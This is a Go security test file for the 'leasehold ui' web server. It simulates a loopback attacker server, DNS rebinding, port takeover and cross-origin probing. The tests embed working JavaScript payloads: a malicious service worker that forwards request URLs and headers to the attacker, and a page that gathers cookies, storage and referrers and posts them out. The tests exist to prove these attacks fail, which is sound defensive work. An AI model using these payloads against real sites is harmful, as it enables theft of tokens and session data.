//go:build linux

package ui

import (
	"io"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/leasehold-go/leasehold/internal/lab"
	"github.com/leasehold-go/leasehold/proof/interop/browser"
)

// attacker is a web server that another user of the machine runs. It records all requests
// that it receives.
type attacker struct {
	t       testing.TB
	servers []*http.Server
	port    string
	pages   map[string]string // answers by path; the attacker's own page answers every other path
	proofs  http.Handler      // handler for /who, the path at which leasehold ui proves that it knows the secret; nil for no handler

	mu      sync.Mutex
	heard   []string      // requests, with their headers and bodies
	arrived chan struct{} // receives a value after each request, unless the channel already contains a value
}

// attack starts an attacker's server at the given port of both loopback addresses. The port
// "0" means any free port.
func attack(t testing.TB, port string, a *attacker) *attacker {
	t.Helper()
	a.t, a.port, a.arrived = t, port, make(chan struct{}, 1)
	for _, host := range []string{"127.0.0.1", "::1"} {
		l, err := net.Listen("tcp", net.JoinHostPort(host, a.port))
		if err != nil && host == "::1" {
			continue // ::1 does not exist or its port is taken, so the attacker listens only on 127.0.0.1
		}
		lab.OK(t, err)
		_, a.port, _ = net.SplitHostPort(l.Addr().String())
		s := &http.Server{Handler: a, ReadHeaderTimeout: patience}
		a.servers = append(a.servers, s)
		go func() { _ = s.Serve(l) }()
	}
	t.Cleanup(a.leave)
	return a
}

// leave closes the attacker's servers and so frees their port.
func (a *attacker) leave() {
	for _, s := range a.servers {
		_ = s.Close()
	}
	a.servers = nil
}

func (a *attacker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	dump, _ := httputil.DumpRequest(r, true)
	a.mu.Lock()
	a.heard = append(a.heard, r.RequestURI+"\n"+string(dump))
	a.mu.Unlock()
	select {
	case a.arrived <- struct{}{}:
	default:
	}
	h := w.Header()
	h.Set("Access-Control-Allow-Origin", "*")
	h.Set("Access-Control-Allow-Headers", "*")
	if to := r.URL.Query().Get("redirect"); to != "" {
		http.Redirect(w, r, to, http.StatusFound)
		return
	}
	switch answer, ok := a.pages[r.URL.Path]; {
	case a.proofs != nil && r.URL.Path == "/who":
		a.proofs.ServeHTTP(w, r)
	case strings.HasSuffix(r.URL.Path, ".js"):
		h.Set("Content-Type", "text/javascript")
		_, _ = io.WriteString(w, answer)
	case r.URL.Path == "/events":
		h.Set("Content-Type", "text/event-stream")
		_, _ = io.WriteString(w, answer)
	case ok:
		h.Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, answer)
	default:
		h.Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, "<p>the attacker's")
	}
}

// wait waits for a request to the attacker. A request that arrived before the call of wait
// counts too, unless an earlier call of wait has consumed it.
func (a *attacker) wait() {
	a.t.Helper()
	select {
	case <-a.arrived:
	case <-time.After(patience):
		a.t.Fatal("the attacker received no request")
	}
}

// loot returns the text of all requests that the attacker has received.
func (a *attacker) loot() string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return strings.Join(a.heard, "\n\n")
}

// tokenOf returns the secret token in a URL that leasehold ui printed.
func tokenOf(t testing.TB, at string) string {
	t.Helper()
	_, token, ok := strings.Cut(at, "#token=")
	if !ok || len(token) < 32 {
		t.Fatalf("%s contains no token", at)
	}
	return token
}

// portOf returns the port of a URL.
func portOf(t testing.TB, at string) string {
	t.Helper()
	return lab.Must(url.Parse(at))(t).Port()
}

// status sends a request with the page's access token to the "leasehold ui" server at the
// given URL. It returns the HTTP status of the answer.
func status(t testing.TB, at, token string) int {
	t.Helper()
	r := lab.Must(http.NewRequestWithContext(t.Context(), http.MethodPost, "http://127.0.0.1:"+portOf(t, at)+"/show", strings.NewReader(`{}`)))(t)
	r.Header.Set("Authorization", "Bearer "+token)
	r.Header.Set("Origin", "http://"+r.Host)
	r.Header.Set("Content-Type", "application/json")
	answer := lab.Must(http.DefaultClient.Do(r))(t)
	defer answer.Body.Close()
	return answer.StatusCode
}

// get sends a GET request, and returns the body of the answer.
func get(t testing.TB, at string) string {
	t.Helper()
	r := lab.Must(http.NewRequestWithContext(t.Context(), http.MethodGet, at, nil))(t)
	answer := lab.Must(http.DefaultClient.Do(r))(t)
	defer answer.Body.Close()
	return string(lab.Must(io.ReadAll(answer.Body))(t))
}

// opensWith tries every part of loot that looks like a token of leasehold ui. It returns
// the first part that leasehold ui accepts, or "" if it accepts none.
func opensWith(t testing.TB, at, loot string) string {
	t.Helper()
	tried := map[string]bool{}
	for _, token := range regexp.MustCompile(`[A-Za-z0-9_-]{20,}`).FindAllString(loot, -1) {
		if !tried[token] && status(t, at, token) != http.StatusUnauthorized {
			return token
		}
		tried[token] = true
	}
	return ""
}

// planted returns the script of a malicious service worker. The browser passes each request for the
// attacked origin to the worker. The worker sends the request's URL and headers to the attacker's
// server, whose URL is the parameter owner. It answers page loads with the attacker's page.
func planted(owner string) string {
	page := `<script>fetch(` + js(owner+"/told") + `, { method: "POST", mode: "no-cors", body: location.href })</script><p>the attacker answers`
	return `addEventListener("install", () => skipWaiting());
	addEventListener("activate", (e) => e.waitUntil(clients.claim()));
	addEventListener("fetch", (e) => {
		fetch(` + js(owner+"/told") + `, { method: "POST", mode: "no-cors", body: [e.request.url, JSON.stringify([...e.request.headers])].join() });
		if (e.request.mode === "navigate") e.respondWith(new Response(` + js(page) + `, { headers: { "Content-Type": "text/html" } }));
	});`
}

// An attacker's page installs a service worker for an address and port. Then leasehold ui starts at
// the same address and port. The browser still passes requests for this address to the service
// worker instead of the server.
func TestOldServiceWorkerDoesNotSeeSecretToken(t *testing.T) {
	s := newScene(t)
	owner := attack(t, "0", &attacker{})
	before := attack(t, freePort(t), &attacker{pages: map[string]string{"/sw.js": planted("http://127.0.0.1:" + owner.port)}})
	tab := chromium.Page(t)
	for _, host := range []string{"127.0.0.1", "localhost"} {
		tab.Open("http://" + host + ":" + before.port + "/")
		tab.Run(`await navigator.serviceWorker.register("/sw.js"); await navigator.serviceWorker.ready; while (!navigator.serviceWorker.controller) await new Promise((r) => setTimeout(r, 20))`)
	}
	before.leave()

	at := s.start("ui", "--addr", "127.0.0.1:"+before.port).line()
	tab.Open(at)
	tab.Wait(`document.getElementById("live")?.textContent === "live" || document.body.innerText.includes("the attacker answers")`)
	lab.WantNoPart(t, "the page", browser.Eval[string](tab, "document.body.innerText"), "the attacker")
	lab.Want(t, "attacker has the token", strings.Contains(owner.loot()+before.loot(), tokenOf(t, at)), false)
	// The service worker is still installed, and still answers requests to this address.
	tab.Open("http://127.0.0.1:" + before.port + "/")
	tab.Wait(`document.body.innerText.includes("the attacker answers")`)
}

// tries returns the attacker's page. The script of the page tries to access another origin (the
// parameter "target") in every way that a browser offers to a page.
func tries(target string) string {
	return `<!doctype html><script>
	const target = ` + js(target) + `, tried = [];
	const tell = (what) => fetch("/told", { method: "POST", credentials: "include", body: String(what) });
	const post = { method: "POST", body: JSON.stringify({ key: "job", grant: "g", version: "v", typed: "job", reason: "" }) };
	async function ask() {
		for (const path of ["/", "/app.js", "/events", "/who?nonce=n", "/break", "/rate", "/look"])
			for (const credentials of ["include", "omit"])
				for (const how of [{}, { mode: "no-cors" }, { headers: { "Content-Type": "application/json" }, ...post }, { headers: { Authorization: "Bearer x" } }, { mode: "no-cors", ...post }])
					for (const url of [target + path, "/?redirect=" + encodeURIComponent(target + path)])
						tried.push(await fetch(url, { credentials, cache: "no-store", ...how }).then((r) => r.text()).catch(() => ""));
		for (const url of [target, "/?redirect=" + encodeURIComponent(target + "/events")])
			await new Promise((done) => { const e = new EventSource(url === target ? url + "/events" : url, { withCredentials: true }); e.onmessage = (m) => tried.push(m.data); e.onopen = () => tried.push("open"); e.onerror = () => { e.close(); done() } });
		await new Promise((done) => { const w = new WebSocket(target.replace("http", "ws") + "/events"); w.onopen = () => tried.push("open"); w.onclose = done });
		for (const tag of ["script", "img", "link", "iframe", "object", "embed"])
			await new Promise((done) => {
				const e = document.createElement(tag);
				e.onload = e.onerror = done;
				setTimeout(done, 1000);
				if (tag === "link") { e.rel = "stylesheet"; e.href = target + "/app.css" } else if (tag === "object") e.data = target + "/"; else e.src = target + (tag === "script" ? "/app.js" : "/");
				document.head.append(e);
				if (tag === "iframe" || tag === "object" || tag === "embed") document.body.append(e);
			});
		for (let i = 0; i < frames.length; i++) try { const f = frames[i]; tried.push(f.location.href, JSON.stringify(f.localStorage)) } catch {}
		tried.push(document.cookie, document.referrer, JSON.stringify(localStorage), JSON.stringify(performance.getEntries()));
		for (const db of await indexedDB.databases()) tried.push(db.name);
		await tell(tried.join("\n"));
		return tried.join("\n");
	}
	</script><body><a id="link" href="` + target + `/">the locks</a>
	<form id="get" action="` + target + `/"></form>
	<form id="post" method="post" enctype="text/plain" action="` + target + `/break"><input name='{"key":"job","typed":"job","grant":"g","version":"v","reason":"' value='"}'></form>`
}

func TestPageOnAnotherPortCannotReadOrBreakLocks(t *testing.T) {
	s, p := newPage(t, "--allow-break", "--token-file", "token")
	h := s.hold("job")
	p.Wait(says("job", "held", h.token))
	u := lab.Must(url.Parse(p.url))(t)
	evil := attack(t, "0", &attacker{pages: map[string]string{"/": tries(p.origin())}})
	for _, host := range []string{u.Hostname(), "localhost", "127.0.0.1"} {
		at := "http://" + host + ":" + evil.port + "/"
		tab := p.Another()
		tab.Open(at)
		got := browser.Eval[string](tab, "ask()")
		lab.WantNoPart(t, "what a page from "+at+" read", got, "open", "job", "<html")
		// The attacker's page opens the page of leasehold ui, but cannot read it. The tab then
		// follows a link to leasehold ui, and comes back to the attacker's page. There, the
		// referrer, the history and the cookies must contain no secret.
		tab.Run(`globalThis.opened = open(` + js(p.origin()+"/") + `)`)
		tab.Wait(`opened.closed || (() => { try { return opened.location.href === "x" } catch { return true } })()`)
		tab.Run(`document.getElementById("link").click()`)
		tab.Wait(`document.getElementById("live")?.textContent === "live"`)
		tab.Run(`location = ` + js(at+"?from=a-link"))
		tab.Wait(`location.search === "?from=a-link"`)
		tab.Run(`tell([document.referrer, JSON.stringify(history.state), history.length, document.cookie].join())`)
		tab.Open(at + "?redirect=" + url.QueryEscape(p.origin()+"/"))
		tab.Wait(`document.getElementById("live")?.textContent === "live"`)
		tab.Open(at)
		tab.Run(`document.getElementById("post").submit()`)
		tab.Wait(`document.body.innerText.includes("The request comes from another site")`)
		tab.Close()
	}
	loot := evil.loot()
	for what, secret := range map[string]string{"the token": tokenOf(t, p.url), "the secret": strings.TrimSpace(read(t, s.dir, "token")), "a cookie": "\nCookie:"} {
		lab.Want(t, "attacker has "+what, strings.Contains(loot, secret), false)
	}
	lab.Want(t, "token that the attacker can use", opensWith(t, p.url, loot), "")
	lab.Want(t, "server rejects its own token", status(t, p.url, tokenOf(t, p.url)) == http.StatusUnauthorized, false)
	lab.WantParts(t, "the record", s.run("get", "job", "--json"), h.token, `"held"`)
	lab.Want(t, "problems of the page", p.Problems(), nil)
}

// TestUIServerRejectsRequestsAfterDNSRebinding simulates DNS rebinding. The browser loads a
// page from an attacker's server. After that, the same name and port lead to leasehold ui.
func TestUIServerRejectsRequestsAfterDNSRebinding(t *testing.T) {
	s := newScene(t)
	evil := attack(t, freePort(t), &attacker{})
	tab := chromium.Page(t)
	tab.Open("http://" + browser.ForeignName + ":" + evil.port + "/")
	tab.Wait(`document.body.innerText.includes("the attacker")`)
	evil.leave()
	token := tokenOf(t, s.start("ui", "--addr", "127.0.0.1:"+evil.port, "--allow-break").line())
	got := browser.Eval[[]int](tab, `(async () => {
		const headers = { Authorization: "Bearer " + `+js(token)+`, "Content-Type": "application/json" }, tried = [];
		for (const path of ["/", "/app.js", "/who?nonce=n", "/events"]) tried.push((await fetch(path, { headers })).status);
		for (const path of ["/show", "/rate", "/look", "/break"]) tried.push((await fetch(path, { method: "POST", headers, body: "{}" })).status);
		return tried;
	})()`)
	lab.Want(t, "statuses", js(got), "[421,421,421,421,421,421,421,421]")
}

// lies is a forged event stream, as an attacker would send it in place of leasehold ui.
const lies = `event: hello
data: {"page":"x","table":"a table of lies","location":"here","layout":"native","allowBreak":true,"started":1}

event: list
data: {"rows":[{"i":1,"kind":"lock","key":"a lie","state":"released"}]}

`

// The test kills leasehold ui while its page is open, and an attacker takes the port. The page must
// not show the attacker's text. The attacker must get no token that works after leasehold ui has
// been started again with the same secret.
func TestPageSendsNoSecretToAttackerThatTookServerPort(t *testing.T) {
	s := newScene(t)
	port := freePort(t)
	addr := "127.0.0.1:" + port
	flags := []string{"--addr", addr, "--token-file", "token", "--allow-break"}
	p := s.ui(flags...)
	h := s.hold("job")
	p.Wait(says("job", "held", h.token))
	reloaded := p.Another()
	reloaded.Open(p.origin() + "/")
	reloaded.Wait(`document.getElementById("live").textContent === "live"`)
	p.Run(`globalThis.lied = false; new MutationObserver(() => { lied ||= document.body.innerText.includes("a table of lies") || document.body.innerText.includes("a lie") })
		.observe(document.body, { subtree: true, childList: true, characterData: true, attributes: true });`)

	// The page asks its server for a proof that the server knows the secret. Any client may ask
	// leasehold ui for a proof. The attacker asks now, and later sends this proof to the page.
	said := get(t, "http://"+addr+"/who?nonce="+strings.Repeat("0", 64))

	p.server.kill()
	owner := attack(t, "0", &attacker{})
	thief := attack(t, port, &attacker{pages: map[string]string{
		"/": "<p>the attacker's", "/events": lies, "/who": said, "/sw.js": planted("http://127.0.0.1:" + owner.port),
	}})
	thief.wait()
	reloaded.Open(p.origin() + "/")
	reloaded.Wait(`document.body.innerText.includes("the attacker")`)
	reloaded.Run(`await navigator.serviceWorker.register("/sw.js"); await navigator.serviceWorker.ready`)
	reloaded.Run(`const found = [location.href, document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage), JSON.stringify(history.state)];
		for (const { name } of await indexedDB.databases()) found.push(name);
		await fetch("/told", { method: "POST", body: found.join("\n") })`)
	p.Wait(`document.getElementById("live").textContent === "stale" && document.getElementById("banner").textContent.includes("Open the URL that leasehold ui printed")`)
	got := browser.Eval[string](p.Page, `import("/state.js").then((m) => m.post("/break", { key: "job" })).then(() => "sent", (e) => e.message)`)
	lab.WantParts(t, "a break from the open page", got, "nothing was sent")
	lab.Want(t, "page showed the attacker's text", browser.Eval[bool](p.Page, "globalThis.lied"), false)
	thief.leave()

	at := s.start(append([]string{"ui"}, flags...)...).line()
	p.Wait(`document.getElementById("live").textContent === "live" && document.getElementById("banner").hidden`)
	next := s.hold("other")
	p.Wait(says("other", "held", next.token))
	loot := thief.loot() + owner.loot()
	lab.Want(t, "attacker has the secret", strings.Contains(loot, strings.TrimSpace(read(t, s.dir, "token"))), false)
	lab.Want(t, "token that the attacker can use", opensWith(t, at, loot), "")
	lab.Want(t, "server rejects its own token", status(t, at, tokenOf(t, at)) == http.StatusUnauthorized, false)
}

// The test kills leasehold ui while its page is open, and an attacker's server takes the port. The
// page asks this server to prove that it knows the secret. The attacker returns the proof of
// another leasehold ui with the same secret.
func TestPageRejectsIdentityProofRelayedFromOtherServer(t *testing.T) {
	s := newScene(t)
	port := freePort(t)
	p := s.ui("--addr", "127.0.0.1:"+port, "--token-file", "token")
	at := s.start("ui", "--token-file", "token").line() // the other leasehold ui
	p.server.kill()
	thief := attack(t, port, &attacker{
		proofs: httputil.NewSingleHostReverseProxy(&url.URL{Scheme: "http", Host: "127.0.0.1:" + portOf(t, at)}),
	})
	p.Wait(`document.getElementById("banner").textContent.includes("Open the URL that leasehold ui printed")`)
	lab.Want(t, "token that the attacker can use", opensWith(t, at, thief.loot()), "")
}
